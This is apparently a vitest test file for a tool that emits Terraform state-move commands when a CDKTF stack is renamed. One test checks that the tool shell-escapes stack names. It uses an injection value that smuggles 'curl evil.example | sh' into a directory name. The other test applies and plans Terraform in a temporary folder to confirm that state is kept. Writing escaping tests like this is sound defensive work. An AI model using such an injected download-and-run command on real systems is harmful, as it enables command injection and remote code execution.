import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { expect, test } from 'vitest';
import { renamedStacks } from '../../../../src/estate/renamed-stacks';
import { emptyState } from '../../../../src/review/engine/findings/move-state';
import { renamedFinding } from '../../../../src/review/engine/findings/renamed-stack';
import { execute, temporaryFolder } from '../../../support/program';
import { outputOf } from '../../outputs';

test('names in the commands are words for a shell, whatever they are', () => {
  const stack = { id: 'a', directory: "stacks/a'; curl evil.example | sh; '" };
  expect(emptyState(stack)).toBe(
    `terraform -chdir='cdktf.out/stacks/a'\\''; curl evil.example | sh; '\\''' state rm $(terraform -chdir='cdktf.out/stacks/a'\\''; curl evil.example | sh; '\\''' state list)  # in the output of the base`,
  );
});

test('the commands keep what is there: nothing is made again, and the old name holds nothing that could be destroyed', async () => {
  const folder = temporaryFolder();
  const environment = { ...process.env, TF_IN_AUTOMATION: '1' };
  const resource = { terraform_data: { Main: { input: 'kept' } } };
  const synthesize = (id: string) => {
    const file = join(folder, 'cdktf.out', 'stacks', id, 'cdk.tf.json');
    mkdirSync(dirname(file), { recursive: true });
    const backend = { local: { path: `../../../state/${id}.tfstate` } };
    writeFileSync(file, JSON.stringify({ terraform: { backend }, resource }));
  };
  const run = async (command: string) => {
    const { code, text } = await execute('sh', ['-c', command], folder, environment);
    expect(code, `${command}\n${text}`).toBe(0);
    return text;
  };
  for (const id of ['prod', 'production']) synthesize(id);
  await run(
    'terraform -chdir=cdktf.out/stacks/prod init && terraform -chdir=cdktf.out/stacks/prod apply -auto-approve',
  );

  const [base, head] = ['prod', 'production'].map((id) =>
    outputOf({ [id]: { 'terraform_data.Main': { input: 'kept' } } }),
  );
  if (base === undefined || head === undefined) throw new Error('there are two');
  const [found] = renamedStacks(base, head);
  if (found === undefined) throw new Error('it is found');
  for (const command of renamedFinding(found, base, head).doWith ?? []) await run(command);

  expect(await run('terraform -chdir=cdktf.out/stacks/production plan')).toContain('No changes.');
  const states = ['prod', 'production'].map((id) => {
    const state = JSON.parse(readFileSync(join(folder, 'state', `${id}.tfstate`), 'utf8')) as {
      resources: unknown[];
      lineage: string;
    };
    return { resources: state.resources.length, lineage: state.lineage };
  });
  expect(states.map(({ resources }) => resources)).toEqual([0, 1]);
  expect(new Set(states.map(({ lineage }) => lineage)).size).toBe(1);
});
